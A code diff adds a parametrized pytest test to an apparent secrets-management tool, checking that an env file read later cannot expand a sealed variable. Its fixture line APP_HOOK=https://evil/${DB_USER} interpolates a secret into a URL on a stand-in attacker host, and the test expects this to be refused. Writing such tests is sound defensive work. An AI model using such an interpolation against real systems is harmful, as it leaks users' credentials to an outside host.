@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
+import os
 from typing import TYPE_CHECKING, Any
 
 import pytest
-from people import ENV, YAML, Repo, commit_blob
+from people import ENV, YAML, Repo, commit_blob, program
 
-from sealedfiles import TamperedError, load
+from sealedfiles import TamperedError, load, load_env
 from sealedfiles.app.files import references
 
 if TYPE_CHECKING:
@@ -107,6 +108,27 @@ def test_a_plain_variable_of_git_takes_in_no_sealed_one(
         assert not any("s3cr3t" in line for line in urls)
     repo.sealedfiles("get", ENV, "APP_OWN", *options)
     assert repo.sealedfiles("get", ENV, "DB_USER", *options) == "s3cr3t-user\n"
+
+
+@pytest.mark.parametrize("how", ["run", "load_env", "load"])
+def test_nor_does_a_file_that_is_read_after_the_sealed_variable_was_set(
+    repo: Repo, monkeypatch: pytest.MonkeyPatch, how: str
+) -> None:
+    """By another call, or by a command that `run` started."""
+    later = "other.env"
+    commit_blob(repo, later, "APP_HOOK=https://evil/${DB_USER}\n")
+    if how == "run":
+        inner = ["run", "-f", later, "--", "env"]
+        assert "s3cr3t" not in repo.sealedfiles(*inner)
+        repo.sealedfiles("run", "-f", ENV, "--", *program(), *inner, code=4)
+        assert f"{later}:1: APP_HOOK: refers in plaintext to a value elsewhere" in repo.stderr
+        return
+    monkeypatch.setattr(os, "environ", {**os.environ, **repo.person.variables})
+    monkeypatch.chdir(repo.path)
+    load_env(ENV)
+    assert os.environ["DB_USER"] == "s3cr3t-user"
+    with pytest.raises(TamperedError, match="APP_HOOK: refers in plaintext"):
+        load_env(later) if how == "load_env" else load(later)
 
 
 def test_a_typed_reference_is_the_users_own_and_a_sealed_one_its_authors(repo: Repo) -> None:
